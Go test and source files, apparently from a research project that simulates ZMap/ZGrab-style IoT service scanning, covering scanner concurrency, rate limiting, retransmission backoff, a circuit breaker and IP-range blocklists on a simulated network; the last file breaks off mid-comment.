	prefix := netsim.MustParsePrefix("50.0.0.0/20")
	cfg := Config{Network: n, Source: 1, Prefix: prefix, Seed: 12, Workers: 48}

	seq, seqStats := NewScanner(cfg).RunAll(context.Background(), AllModules())
	par, parStats := NewScanner(cfg).RunAllParallel(context.Background(), AllModules())

	if len(seq) != len(par) {
		t.Fatalf("protocol count: sequential %d, parallel %d", len(seq), len(par))
	}
	for proto, srs := range seq {
		prs := par[proto]
		if len(srs) != len(prs) {
			t.Fatalf("%s: sequential %d results, parallel %d", proto, len(srs), len(prs))
		}
		for i := range srs {
			a, b := srs[i], prs[i]
			if a.IP != b.IP || a.Port != b.Port || a.Transport != b.Transport ||
				!bytes.Equal(a.Banner, b.Banner) || !bytes.Equal(a.Response, b.Response) {
				t.Fatalf("%s result %d differs:\nseq %+v\npar %+v", proto, i, a, b)
			}
			if len(a.Meta) != len(b.Meta) {
				t.Fatalf("%s result %d meta size differs", proto, i)
			}
			for k, v := range a.Meta {
				if b.Meta[k] != v {
					t.Fatalf("%s result %d meta[%q]: %q vs %q", proto, i, k, v, b.Meta[k])
				}
			}
		}
		if seqStats[proto].Probed != parStats[proto].Probed {
			t.Fatalf("%s probed: sequential %d, parallel %d",
				proto, seqStats[proto].Probed, parStats[proto].Probed)
		}
	}
}

// TestRunAllParallelWorkerBudget checks the total budget splits across
// modules without dropping below one worker per module.
func TestRunAllParallelWorkerBudget(t *testing.T) {
	n, _, _ := buildTestWorld(t, 100)
	prefix := netsim.MustParsePrefix("50.0.0.0/22")
	// Fewer workers than modules: every module must still scan.
	s := NewScanner(Config{Network: n, Source: 1, Prefix: prefix, Seed: 13, Workers: 2})
	_, stats := s.RunAllParallel(context.Background(), AllModules())
	if len(stats) != 6 {
		t.Fatalf("stats for %d protocols, want 6", len(stats))
	}
	for proto, st := range stats {
		if st.Probed == 0 {
			t.Fatalf("%s probed 0 targets", proto)
		}
	}
}

// TestRateLimiterValidation covers the period-zero pitfall: perSec beyond
// 1e9 used to truncate the period to zero, silently disabling throttling.
func TestRateLimiterValidation(t *testing.T) {
	if r := newRateLimiter(2_000_000_000); r.period <= 0 {
		t.Fatalf("perSec > 1e9: period = %v, throttling disabled", r.period)
	}
	if r := newRateLimiter(0); r.period != time.Second {
		t.Fatalf("perSec 0: period = %v, want 1s", r.period)
	}
	if r := newRateLimiter(-5); r.period != time.Second {
		t.Fatalf("negative perSec: period = %v, want 1s", r.period)
	}
	if r := newRateLimiter(1000); r.period != time.Millisecond {
		t.Fatalf("perSec 1000: period = %v, want 1ms", r.period)
	}
}

// TestRateLimiterSteadyStateAfterIdle asserts an idle gap does not bank
// tokens: the schedule restarts at the current time, so a burst after idle
// is bounded by the grant horizon rather than the gap length.
func TestRateLimiterSteadyStateAfterIdle(t *testing.T) {
	r := newRateLimiter(1000) // 1ms per token
	r.next = time.Now().Add(-time.Hour)

	granted := r.reserve(context.Background(), 1<<20)
	if max := int(maxGrantHorizon/r.period) + 1; granted > max {
		t.Fatalf("granted %d tokens after idle gap, want ≤ %d", granted, max)
	}
	if lag := time.Until(r.next); lag < -50*time.Millisecond {
		t.Fatalf("schedule still %v in the past after reserve", -lag)
	}
}

// TestRateLimiterBatchedGrant checks reserve grants at most the requested
// count and never more than the horizon allows.
func TestRateLimiterBatchedGrant(t *testing.T) {
	r := newRateLimiter(100_000) // 10µs per token
	if n := r.reserve(context.Background(), 4); n < 1 || n > 4 {
		t.Fatalf("reserve(4) granted %d", n)
	}
	// A huge request is clamped by the grant horizon.
	if n := r.reserve(context.Background(), 1<<30); n > int(maxGrantHorizon/r.period) {
		t.Fatalf("reserve granted %d tokens, beyond the horizon", n)
	}
}

// TestScanThrottled asserts the batched limiter still enforces the rate
// end to end: a throttled sweep cannot finish faster than tokens allow.
func TestScanThrottled(t *testing.T) {
	n, _, _ := buildTestWorld(t, 1)
	prefix := netsim.MustParsePrefix("50.0.0.0/26") // 64 addresses, 128 probes
	s := NewScanner(Config{
		Network: n, Source: 1, Prefix: prefix, Seed: 14,
		Workers: 8, RatePerSec: 1000,
	})
	start := time.Now()
	st := s.Run(context.Background(), TelnetModule{}, nil)
	elapsed := time.Since(start)
	if st.Probed != 128 {
		t.Fatalf("probed %d, want 128", st.Probed)
	}
	// 128 probes at 1000/s need ≥ ~128ms minus the horizon's head start.
	if minimum := 128*time.Millisecond - maxGrantHorizon; elapsed < minimum {
		t.Fatalf("throttled scan finished in %v, want ≥ %v", elapsed, minimum)
	}
}

// TestBlocklistDisjointFastPath ensures dropping the blocklist for
// disjoint prefixes does not change coverage, and that overlapping
// blocklists still exclude.
func TestBlocklistDisjointFastPath(t *testing.T) {
	prefix := netsim.MustParsePrefix("50.0.0.0/24")
	bl := netsim.NewPrefixSet(netsim.MustParsePrefix("192.168.0.0/16"))
	it := NewAddressIterator(prefix, 3, bl, 0, 1)
	count := 0
	for {
		if _, ok := it.Next(); !ok {
			break
		}
		count++
	}
	if count != 256 {
		t.Fatalf("disjoint blocklist: visited %d addresses, want 256", count)
	}

	bl.Add(netsim.MustParsePrefix("50.0.0.128/25"))
	it = NewAddressIterator(prefix, 3, bl, 0, 1)
	count = 0
	for {
		ip, ok := it.Next()
		if !ok {
			break
		}
		if uint32(ip)&0x80 == 0x80 && uint32(ip)>>8 == uint32(netsim.MustParseIPv4("50.0.0.0"))>>8 {
			t.Fatalf("blocklisted address %v visited", ip)
		}
		count++
	}
	if count != 128 {
		t.Fatalf("overlapping blocklist: visited %d addresses, want 128", count)
	}
}
