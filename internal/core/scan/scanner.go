package scan

import (
	"context"
	"sync"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// Result is one responsive host observed by the scan: the raw banner or UDP
// response plus protocol-specific metadata, stored for classification
// exactly as the paper stores ZGrab output in its database (Section 3.1.1).
type Result struct {
	Time      time.Time
	IP        netsim.IPv4
	Port      uint16
	Protocol  iot.Protocol
	Transport netsim.Transport
	// Banner is the raw application-layer bytes for TCP protocols.
	Banner []byte
	// Response is the raw datagram for UDP protocols.
	Response []byte
	// Meta carries parsed fields ("mqtt.code", "amqp.version",
	// "xmpp.mechanisms", "upnp.server", ...).
	Meta map[string]string
}

// ProbeModule probes one protocol. Implementations are stateless and safe
// for concurrent use.
type ProbeModule interface {
	// Protocol identifies the module.
	Protocol() iot.Protocol
	// Ports lists the ports to probe, in order.
	Ports() []uint16
	// Probe checks one endpoint and returns a Result if it responded.
	Probe(ctx context.Context, net *netsim.Network, src netsim.IPv4, dst netsim.Endpoint) (*Result, bool)
}

// Config configures a scan run.
type Config struct {
	// Network is the fabric to scan.
	Network *netsim.Network
	// Source is the scanning host's address (the paper used a fixed
	// university address so targets could identify the research scan).
	Source netsim.IPv4
	// Prefix is the range to scan.
	Prefix netsim.Prefix
	// Seed drives the address permutation.
	Seed uint64
	// Blocklist excludes ranges (nil = DefaultBlocklist ∪ EuropeBlocklist).
	Blocklist *netsim.PrefixSet
	// Workers is the probe concurrency (0 = 64).
	Workers int
	// RatePerSec throttles probes when > 0. The simulation usually runs
	// unthrottled; the examples demonstrate throttled scans.
	RatePerSec int
	// Shard / Shards split the permutation across cooperating scanners.
	Shard, Shards int
}

// Stats summarizes one protocol scan.
type Stats struct {
	Probed    uint64
	Blocked   uint64
	Responded uint64
	Elapsed   time.Duration
}

// Scanner runs probe modules over a prefix.
type Scanner struct {
	cfg Config
}

// NewScanner validates cfg and builds a Scanner.
func NewScanner(cfg Config) *Scanner {
	if cfg.Workers == 0 {
		cfg.Workers = 64
	}
	if cfg.Blocklist == nil {
		cfg.Blocklist = CombinedBlocklist(DefaultBlocklist(), EuropeBlocklist())
	}
	if cfg.Shards < 1 {
		cfg.Shards = 1
	}
	return &Scanner{cfg: cfg}
}

// Run scans the prefix with one probe module, streaming results to emit.
// It returns scan statistics.
func (s *Scanner) Run(ctx context.Context, module ProbeModule, emit func(*Result)) Stats {
	if ctx == nil {
		ctx = context.Background()
	}
	start := time.Now()
	var stats Stats
	var mu sync.Mutex // guards stats counters updated by workers

	type target struct {
		ip   netsim.IPv4
		port uint16
	}
	targets := make(chan target, 4*s.cfg.Workers)

	var limiter *rateLimiter
	if s.cfg.RatePerSec > 0 {
		limiter = newRateLimiter(s.cfg.RatePerSec)
	}

	var wg sync.WaitGroup
	for w := 0; w < s.cfg.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for t := range targets {
				if limiter != nil {
					limiter.wait()
				}
				res, ok := module.Probe(ctx, s.cfg.Network, s.cfg.Source,
					netsim.Endpoint{IP: t.ip, Port: t.port})
				mu.Lock()
				stats.Probed++
				if ok {
					stats.Responded++
				}
				mu.Unlock()
				if ok && emit != nil {
					emit(res)
				}
			}
		}()
	}

	it := NewAddressIterator(s.cfg.Prefix, s.cfg.Seed, s.cfg.Blocklist, s.cfg.Shard, s.cfg.Shards)
feed:
	for {
		ip, ok := it.Next()
		if !ok {
			break
		}
		for _, port := range module.Ports() {
			select {
			case targets <- target{ip: ip, port: port}:
			case <-ctx.Done():
				break feed
			}
		}
	}
	close(targets)
	wg.Wait()
	stats.Elapsed = time.Since(start)
	return stats
}

// RunAll scans with every module, returning all results keyed by protocol.
func (s *Scanner) RunAll(ctx context.Context, modules []ProbeModule) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats) {
	results := make(map[iot.Protocol][]*Result)
	stats := make(map[iot.Protocol]Stats)
	var mu sync.Mutex
	for _, m := range modules {
		m := m
		st := s.Run(ctx, m, func(r *Result) {
			mu.Lock()
			results[m.Protocol()] = append(results[m.Protocol()], r)
			mu.Unlock()
		})
		stats[m.Protocol()] = st
	}
	return results, stats
}

// rateLimiter is a simple token bucket over wall time.
type rateLimiter struct {
	mu     sync.Mutex
	next   time.Time
	period time.Duration
}

func newRateLimiter(perSec int) *rateLimiter {
	return &rateLimiter{period: time.Second / time.Duration(perSec), next: time.Now()}
}

func (r *rateLimiter) wait() {
	r.mu.Lock()
	now := time.Now()
	if r.next.Before(now) {
		r.next = now
	}
	sleep := r.next.Sub(now)
	r.next = r.next.Add(r.period)
	r.mu.Unlock()
	if sleep > 0 {
		time.Sleep(sleep)
	}
}
