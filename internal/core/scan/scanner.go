package scan

import (
	"context"
	"errors"
	"sort"
	"sync"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// Result is one responsive host observed by the scan: the raw banner or UDP
// response plus protocol-specific metadata, stored for classification
// exactly as the paper stores ZGrab output in its database (Section 3.1.1).
type Result struct {
	Time      time.Time
	IP        netsim.IPv4
	Port      uint16
	Protocol  iot.Protocol
	Transport netsim.Transport
	// Banner is the raw application-layer bytes for TCP protocols.
	Banner []byte
	// Response is the raw datagram for UDP protocols.
	Response []byte
	// Meta carries parsed fields ("mqtt.code", "amqp.version",
	// "xmpp.mechanisms", "upnp.server", ...).
	Meta map[string]string
}

// Outcome classifies one probe attempt. Separating the transient failures
// (timeouts, resets, partial banners) from true negatives is what lets the
// misconfiguration pipeline degrade gracefully on a lossy network: a lost
// probe is retransmitted and an unclassifiable host is counted as such,
// instead of both silently deflating the exposure numbers.
type Outcome uint8

// Probe outcomes.
const (
	// OutcomeNone is a true negative: dark address, closed port, or a
	// conversation that cleanly ended without the protocol answering.
	OutcomeNone Outcome = iota
	// OutcomeOK means the endpoint responded; the Result is valid.
	OutcomeOK
	// OutcomeTimeout means the probe (or its reply) was lost or outlasted
	// the per-attempt deadline. Worth retransmitting.
	OutcomeTimeout
	// OutcomeReset means the conversation was torn down mid-stream (RST).
	OutcomeReset
	// OutcomePartial means a tarpit delivered only a banner prefix: the
	// host is responsive but unclassifiable from what arrived.
	OutcomePartial
)

// ProbeSpec carries the per-attempt parameters a module forwards into
// netsim.ProbeOptions: which retransmission this is, and how much simulated
// patience the scanner has per attempt.
type ProbeSpec struct {
	Attempt uint32
	Timeout time.Duration
}

// Options converts the spec to transport options.
func (s ProbeSpec) Options() netsim.ProbeOptions {
	return netsim.ProbeOptions{Attempt: s.Attempt, Timeout: s.Timeout}
}

// DialOutcome maps a Dial error to the scanner's outcome taxonomy.
func DialOutcome(err error) Outcome {
	if errors.Is(err, netsim.ErrProbeTimeout) {
		return OutcomeTimeout
	}
	return OutcomeNone // refused or unreachable: a true negative
}

// ConnOutcome inspects a finished conversation for injected stream
// pathologies: fault resets and tarpit truncations outrank whatever the
// protocol parser made of the bytes.
func ConnOutcome(conn *netsim.ServiceConn) (Outcome, bool) {
	switch {
	case conn.FaultReset():
		return OutcomeReset, true
	case conn.FaultTruncated():
		return OutcomePartial, true
	default:
		return OutcomeNone, false
	}
}

// ProbeModule probes one protocol. Implementations are stateless and safe
// for concurrent use.
type ProbeModule interface {
	// Protocol identifies the module.
	Protocol() iot.Protocol
	// Ports lists the ports to probe, in order.
	Ports() []uint16
	// Probe checks one endpoint once and classifies the attempt. A non-nil
	// Result is returned only with OutcomeOK. Retransmission is the
	// scanner's job: modules must not loop internally.
	Probe(ctx context.Context, net *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome)
}

// Config configures a scan run.
type Config struct {
	// Network is the fabric to scan.
	Network *netsim.Network
	// Source is the scanning host's address (the paper used a fixed
	// university address so targets could identify the research scan).
	Source netsim.IPv4
	// Prefix is the range to scan.
	Prefix netsim.Prefix
	// Seed drives the address permutation.
	Seed uint64
	// Blocklist excludes ranges (nil = DefaultBlocklist ∪ EuropeBlocklist).
	Blocklist *netsim.PrefixSet
	// Workers is the probe concurrency (0 = 64).
	Workers int
	// RatePerSec throttles probes when > 0. The simulation usually runs
	// unthrottled; the examples demonstrate throttled scans.
	RatePerSec int
	// Shard / Shards split the permutation across cooperating scanners.
	Shard, Shards int

	// The robustness knobs below only engage when the network has a fault
	// model installed (Network.Faults() != nil). On a perfect fabric every
	// target is probed exactly once, preserving the zero-fault byte-identity
	// guarantee.

	// MaxAttempts bounds transmissions per target, ZMap-style (0 = 3).
	MaxAttempts int
	// ProbeTimeout is the per-attempt patience in simulated time (0 = 500ms):
	// a path slower than this counts as a timeout and is retransmitted.
	ProbeTimeout time.Duration
	// RetransmitBase seeds the exponential backoff between attempts
	// (0 = 100ms, simulated); RetransmitCap bounds it (0 = 1.6s).
	RetransmitBase, RetransmitCap time.Duration
	// TargetBudget caps one target's total simulated spend across attempts,
	// waits and backoffs (0 = 4s); the retry loop stops when exceeded.
	TargetBudget time.Duration
	// BreakerThreshold is the circuit breaker's trip count: after this many
	// admin-prohibited targets inside one /24, the rest of that prefix is
	// skipped (0 = 8).
	BreakerThreshold int

	// Progress, when set, is called from the feed goroutine once per target
	// batch with the number of (address, port) pairs just enqueued. It runs
	// outside the probe hot path (one call per targetBatchSize targets) and
	// must not block; leaving it nil — the default — keeps the feed loop
	// exactly as fast and the scan byte-identical to an unobserved run.
	Progress func(targets uint64)

	// OnProbe, when set, receives one ProbeEvent per lifecycle moment of
	// every probed target: transmission, outcome, retransmit scheduling,
	// abandonment, and feed-side breaker skips. It is called from worker
	// goroutines (and from the single-threaded feed for breaker skips), so
	// implementations must be safe for concurrent use and must not block.
	// The hook only reads values the loop has already computed — outcomes
	// and backoff delays are pure functions of (seed, target, attempt) — so
	// a hooked run produces byte-identical results and stats to a bare one;
	// nil (the default) keeps the loop exactly as before the hook existed.
	OnProbe func(ProbeEvent)

	// OnSegment, when set, is called by RunSegmented once per drained
	// segment — on the single-threaded collector, before onCommit — with the
	// module's protocol, the number of (address, port) targets the segment
	// fed, and the segment's results sorted by (IP, Port). The slice is
	// freshly sorted and not retained by the scanner, but its *Result
	// entries are shared with the accumulated state, so implementations
	// must treat them as read-only. Scheduling order inside a segment is
	// worker-count dependent; the sort makes the hook's view a pure
	// function of (seed, config, segment index), which is what lets the
	// serve daemon fold segments into aggregates without breaking
	// byte-identity across worker counts.
	OnSegment func(proto iot.Protocol, targets int, results []*Result)
}

// ProbeEventKind names one lifecycle moment in a target's retransmit loop.
type ProbeEventKind uint8

// Probe lifecycle events, in the order one target can emit them.
const (
	// ProbeSent marks a transmission leaving the scanner (Attempt is the
	// retransmission ordinal, 0 for the first transmission).
	ProbeSent ProbeEventKind = iota
	// ProbeAnswered marks an OutcomeOK conversation: a Result was emitted.
	ProbeAnswered
	// ProbeTimedOut marks an attempt lost or outlasting the per-attempt
	// patience (Sim carries ProbeTimeout).
	ProbeTimedOut
	// ProbeReset marks a conversation torn down mid-stream.
	ProbeReset
	// ProbePartial marks a tarpitted conversation: banner prefix only.
	ProbePartial
	// ProbeNegative marks a true negative: dark address, closed port, or a
	// clean no-answer conversation.
	ProbeNegative
	// ProbeRetransmit marks a follow-up transmission being scheduled after
	// the timed-out Attempt (Sim carries the backoff delay before it).
	ProbeRetransmit
	// ProbeAbandoned marks the retry loop giving up — attempt cap, target
	// budget, or cancellation (Sim carries the target's total simulated
	// spend).
	ProbeAbandoned
	// ProbeBreakerSkip marks the feed dropping a whole address inside a
	// circuit-broken /24 (Port is 0: the decision is per-address).
	ProbeBreakerSkip
)

// ProbeEvent is one lifecycle event delivered to Config.OnProbe.
type ProbeEvent struct {
	Kind     ProbeEventKind
	Protocol iot.Protocol
	IP       netsim.IPv4
	Port     uint16
	Attempt  uint32
	// Sim is the simulated duration attached to the event where one exists:
	// the per-attempt patience for timeouts, the backoff delay for
	// retransmits, the target's cumulative spend for abandons.
	Sim time.Duration
}

// Stats summarizes one protocol scan. Probed counts transmissions (like
// ZMap's sent-packet counter), so retransmits show up in it; the transient
// failure classes are broken out so lost probes are never silently folded
// into the true negatives.
type Stats struct {
	Probed uint64
	// Blocked counts addresses the blocklist excluded from this scan's
	// permutation walk (addresses, not address×port targets: a blocklisted
	// address is dropped before ports fan out).
	Blocked   uint64
	Responded uint64
	// Timeouts counts attempts lost to drops, rate limiting or latency
	// beyond the per-attempt deadline.
	Timeouts uint64
	// Resets counts conversations torn down mid-stream.
	Resets uint64
	// Partials counts tarpitted conversations that yielded only a banner
	// prefix: responsive hosts the classifier cannot type.
	Partials uint64
	// Negatives counts true-negative attempts: dark addresses, closed ports,
	// or conversations that cleanly ended without the protocol answering.
	// Every transmission lands in exactly one of Responded, Timeouts,
	// Resets, Partials or Negatives, so Probed is their sum — the
	// conservation law the accounting tests pin.
	Negatives uint64
	// Retransmits counts follow-up transmissions after a timeout.
	Retransmits uint64
	// BreakerSkipped counts targets skipped inside circuit-broken prefixes
	// (in address×port units, like Probed).
	BreakerSkipped uint64
	Elapsed        time.Duration
}

// Counters flattens the deterministic stat fields into a named map for the
// metrics registry and run manifest (Elapsed is wall-clock and excluded).
func (st Stats) Counters() map[string]uint64 {
	return map[string]uint64{
		"probed":          st.Probed,
		"blocked":         st.Blocked,
		"responded":       st.Responded,
		"timeouts":        st.Timeouts,
		"resets":          st.Resets,
		"partials":        st.Partials,
		"negatives":       st.Negatives,
		"retransmits":     st.Retransmits,
		"breaker_skipped": st.BreakerSkipped,
	}
}

// Scanner runs probe modules over a prefix.
type Scanner struct {
	cfg  Config
	root *prng.Source // hash root for backoff jitter; never advanced
}

// NewScanner validates cfg and builds a Scanner.
func NewScanner(cfg Config) *Scanner {
	if cfg.Workers == 0 {
		cfg.Workers = 64
	}
	if cfg.Blocklist == nil {
		cfg.Blocklist = CombinedBlocklist(DefaultBlocklist(), EuropeBlocklist())
	}
	if cfg.Shards < 1 {
		cfg.Shards = 1
	}
	if cfg.MaxAttempts < 1 {
		cfg.MaxAttempts = 3
	}
	if cfg.ProbeTimeout <= 0 {
		cfg.ProbeTimeout = 500 * time.Millisecond
	}
	if cfg.RetransmitBase <= 0 {
		cfg.RetransmitBase = 100 * time.Millisecond
	}
	if cfg.RetransmitCap <= 0 {
		cfg.RetransmitCap = 1600 * time.Millisecond
	}
	if cfg.TargetBudget <= 0 {
		cfg.TargetBudget = 4 * time.Second
	}
	if cfg.BreakerThreshold < 1 {
		cfg.BreakerThreshold = 8
	}
	return &Scanner{cfg: cfg, root: prng.New(cfg.Seed)}
}

// targetBatchSize is how many (ip, port) pairs ride one channel send. The
// feed goroutine and the workers meet at the channel once per batch instead
// of once per probe, so channel synchronization disappears from the
// per-probe cost.
const targetBatchSize = 256

// target is one (address, port) probe assignment.
type target struct {
	ip   netsim.IPv4
	port uint16
}

// workerStats is one worker's private counters, merged into the run total
// after the feed closes. Padded to a cache line so adjacent shards never
// false-share.
type workerStats struct {
	probed      uint64
	responded   uint64
	timeouts    uint64
	resets      uint64
	partials    uint64
	negatives   uint64
	retransmits uint64
	_           [8]byte
}

// Run scans the prefix with one probe module, streaming results to emit.
// It returns scan statistics.
//
// The hot path is contention-free: targets arrive in batches, each worker
// counts into its own cache-line-padded shard, and the rate limiter (when
// enabled) grants tokens in batches. The only cross-worker synchronization
// left per batch is one channel receive.
func (s *Scanner) Run(ctx context.Context, module ProbeModule, emit func(*Result)) Stats {
	if ctx == nil {
		ctx = context.Background()
	}
	start := time.Now()

	batches := make(chan []target, 2*s.cfg.Workers)

	var limiter *rateLimiter
	if s.cfg.RatePerSec > 0 {
		limiter = newRateLimiter(s.cfg.RatePerSec)
	}

	// Retransmission only engages on a faulted fabric. On a perfect one,
	// maxAttempts is pinned to 1 so every target is probed exactly once and
	// zero-fault runs stay byte-identical to the pre-fault scanner.
	faultModel := s.cfg.Network.Faults()
	maxAttempts := 1
	if faultModel != nil {
		maxAttempts = s.cfg.MaxAttempts
	}

	shards := make([]workerStats, s.cfg.Workers)
	done := ctx.Done()
	var wg sync.WaitGroup
	for w := 0; w < s.cfg.Workers; w++ {
		wg.Add(1)
		go func(shard *workerStats) {
			defer wg.Done()
			for batch := range batches {
				select {
				case <-done:
					continue // canceled: drain the feed without probing
				default:
				}
				for i := 0; i < len(batch); {
					n := len(batch) - i
					if limiter != nil {
						if n = limiter.reserve(ctx, n); n == 0 {
							break // canceled while throttled
						}
					}
					for _, t := range batch[i : i+n] {
						s.probeTarget(ctx, module, t, shard, maxAttempts, limiter, emit)
					}
					i += n
				}
			}
		}(&shards[w])
	}

	// The circuit breaker lives here in the single-threaded feed, not in the
	// workers: it consults the fault model's deterministic blackhole oracle
	// in permutation order, so the set of skipped targets is a pure function
	// of (seed, config) and independent of worker count.
	var breaker *prefixBreaker
	if faultModel != nil && s.cfg.BreakerThreshold > 0 {
		breaker = newPrefixBreaker(faultModel, s.cfg.Source, s.cfg.BreakerThreshold)
	}
	var breakerSkipped uint64

	it := NewAddressIterator(s.cfg.Prefix, s.cfg.Seed, s.cfg.Blocklist, s.cfg.Shard, s.cfg.Shards)
	ports := module.Ports()
	trace := s.cfg.OnProbe
	var proto iot.Protocol
	if trace != nil {
		proto = module.Protocol()
	}
	batch := make([]target, 0, targetBatchSize)
feed:
	for {
		ip, ok := it.Next()
		if !ok {
			break
		}
		if breaker != nil && breaker.skip(ip) {
			breakerSkipped += uint64(len(ports))
			if trace != nil {
				trace(ProbeEvent{Kind: ProbeBreakerSkip, Protocol: proto, IP: ip})
			}
			continue
		}
		for _, port := range ports {
			batch = append(batch, target{ip: ip, port: port})
			if len(batch) == targetBatchSize {
				select {
				case batches <- batch:
					if s.cfg.Progress != nil {
						s.cfg.Progress(targetBatchSize)
					}
					batch = make([]target, 0, targetBatchSize)
				case <-ctx.Done():
					break feed
				}
			}
		}
	}
	if len(batch) > 0 {
		select {
		case batches <- batch:
			if s.cfg.Progress != nil {
				s.cfg.Progress(uint64(len(batch)))
			}
		case <-ctx.Done():
		}
	}
	close(batches)
	wg.Wait()

	var stats Stats
	for i := range shards {
		stats.Probed += shards[i].probed
		stats.Responded += shards[i].responded
		stats.Timeouts += shards[i].timeouts
		stats.Resets += shards[i].resets
		stats.Partials += shards[i].partials
		stats.Negatives += shards[i].negatives
		stats.Retransmits += shards[i].retransmits
	}
	stats.Blocked = it.Blocked()
	stats.BreakerSkipped = breakerSkipped
	stats.Elapsed = time.Since(start)
	return stats
}

// probeTarget drives one target through the retransmit loop: probe, classify
// the outcome, and on a timeout back off (in simulated time) and try again
// until the attempt cap or the target's time budget is exhausted. The budget
// is virtual — per-attempt timeouts and backoff delays are *counted*, never
// slept — so a lossy fabric costs bookkeeping, not wall-clock.
func (s *Scanner) probeTarget(ctx context.Context, module ProbeModule, t target,
	shard *workerStats, maxAttempts int, limiter *rateLimiter, emit func(*Result)) {
	dst := netsim.Endpoint{IP: t.ip, Port: t.port}
	spec := ProbeSpec{Timeout: s.cfg.ProbeTimeout}
	var spent time.Duration
	trace := s.cfg.OnProbe
	var proto iot.Protocol
	if trace != nil {
		proto = module.Protocol()
	}
	event := func(kind ProbeEventKind, sim time.Duration) {
		trace(ProbeEvent{Kind: kind, Protocol: proto, IP: t.ip, Port: t.port,
			Attempt: spec.Attempt, Sim: sim})
	}
	for {
		if trace != nil {
			event(ProbeSent, 0)
		}
		res, out := module.Probe(ctx, s.cfg.Network, s.cfg.Source, dst, spec)
		shard.probed++
		switch out {
		case OutcomeOK:
			shard.responded++
			if emit != nil {
				emit(res)
			}
			if trace != nil {
				event(ProbeAnswered, 0)
			}
			return
		case OutcomeReset:
			shard.resets++
			if trace != nil {
				event(ProbeReset, 0)
			}
			return
		case OutcomePartial:
			shard.partials++
			if trace != nil {
				event(ProbePartial, 0)
			}
			return
		case OutcomeTimeout:
			shard.timeouts++
			backoff := s.backoffDelay(t.ip, t.port, spec.Attempt)
			spent += s.cfg.ProbeTimeout + backoff
			if trace != nil {
				event(ProbeTimedOut, s.cfg.ProbeTimeout)
			}
			if int(spec.Attempt)+1 >= maxAttempts || spent > s.cfg.TargetBudget || ctx.Err() != nil {
				if trace != nil {
					event(ProbeAbandoned, spent)
				}
				return
			}
			shard.retransmits++
			if trace != nil {
				event(ProbeRetransmit, backoff)
			}
			if limiter != nil && limiter.reserve(ctx, 1) == 0 {
				return // canceled while throttled
			}
			spec.Attempt++
		default:
			shard.negatives++
			if trace != nil {
				event(ProbeNegative, 0)
			}
			return
		}
	}
}

// backoffLabel is the hash domain for retransmit jitter, disjoint from every
// other derived-stream label in the repo.
const backoffLabel = 0xb0ff

// backoffShiftMax caps the exponent in the backoff schedule. Even a 1ns base
// doubles past any sane RetransmitCap within 32 attempts, so saturating the
// shift there loses nothing — and without a clamp, `base << attempt` wraps
// int64 once attempt reaches the high 30s: a wrapped-but-positive value below
// cap slipped through the old `d <= 0 || d > cap` guard and produced a
// non-monotone schedule for large -max-attempts.
const backoffShiftMax = 32

// backoffBase is the un-jittered delay before the retransmission that
// follows attempt: exponential in the attempt number, saturating at cap. The
// overflow-proof form compares base against cap>>attempt (right shifts never
// wrap), so the left shift is only evaluated when its result provably fits.
func backoffBase(base, cap time.Duration, attempt uint32) time.Duration {
	if attempt >= backoffShiftMax || base > cap>>attempt {
		return cap
	}
	return base << attempt
}

// backoffDelay is the simulated pause before the retransmission that follows
// attempt: exponential in the attempt number, capped, with jitter in
// [0, delay/2] drawn from the stream derived from (seed, ip, port, attempt).
// It is a pure function, so the schedule for any target is identical across
// runs and worker counts.
func backoffDelay(root *prng.Source, base, cap time.Duration, ip netsim.IPv4, port uint16, attempt uint32) time.Duration {
	d := backoffBase(base, cap, attempt)
	jitter := time.Duration(root.Hash64(backoffLabel, uint64(ip), uint64(port), uint64(attempt)) % uint64(d/2+1))
	return d + jitter
}

func (s *Scanner) backoffDelay(ip netsim.IPv4, port uint16, attempt uint32) time.Duration {
	return backoffDelay(s.root, s.cfg.RetransmitBase, s.cfg.RetransmitCap, ip, port, attempt)
}

// prefixBreaker is the scanner's circuit breaker for persistently dead
// prefixes. Operators who blackhole scan traffic do it for whole prefixes,
// so after BreakerThreshold addresses inside one /24 have hit the fault
// model's blackhole oracle, the rest of that /24 is skipped — the paper's
// graceful-degradation requirement without unbounded waiting. Only consulted
// from the single-threaded feed loop; not safe for concurrent use.
type prefixBreaker struct {
	model     netsim.FaultModel
	src       netsim.IPv4
	threshold int
	hits      map[uint32]int // /24 prefix -> blackholed addresses fed so far
}

func newPrefixBreaker(model netsim.FaultModel, src netsim.IPv4, threshold int) *prefixBreaker {
	return &prefixBreaker{model: model, src: src, threshold: threshold, hits: make(map[uint32]int)}
}

// skip reports whether ip should be dropped from the feed. The first
// threshold blackholed addresses in a /24 are still fed (the scanner has to
// burn timeouts on them to "learn" the prefix is dead, exactly like a real
// scan would); every later address in that /24 is skipped.
func (b *prefixBreaker) skip(ip netsim.IPv4) bool {
	if !b.model.Blackholed(b.src, ip) {
		return false
	}
	p24 := uint32(ip) >> 8
	if b.hits[p24] >= b.threshold {
		return true
	}
	b.hits[p24]++
	return false
}

// runCollect runs one module and returns its results sorted by (IP, Port),
// so result sets are deterministic for a fixed seed regardless of worker
// interleaving.
func (s *Scanner) runCollect(ctx context.Context, m ProbeModule) ([]*Result, Stats) {
	var (
		mu  sync.Mutex
		out []*Result
	)
	st := s.Run(ctx, m, func(r *Result) {
		mu.Lock()
		out = append(out, r)
		mu.Unlock()
	})
	sort.Slice(out, func(i, j int) bool {
		if out[i].IP != out[j].IP {
			return out[i].IP < out[j].IP
		}
		return out[i].Port < out[j].Port
	})
	return out, st
}

// RunAll scans with every module sequentially, returning all results keyed
// by protocol. Per-protocol result slices are sorted by (IP, Port), so the
// output for a fixed seed is deterministic.
func (s *Scanner) RunAll(ctx context.Context, modules []ProbeModule) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats) {
	results := make(map[iot.Protocol][]*Result, len(modules))
	stats := make(map[iot.Protocol]Stats, len(modules))
	for _, m := range modules {
		rs, st := s.runCollect(ctx, m)
		results[m.Protocol()] = rs
		stats[m.Protocol()] = st
	}
	return results, stats
}

// RunAllParallel scans with every module concurrently. Modules are
// stateless, and each module walks its own address permutation, so running
// them in parallel divides wall-clock by up to the module count while
// producing the same per-protocol result sets as sequential RunAll
// (slices sorted by (IP, Port), deterministic for a fixed seed).
//
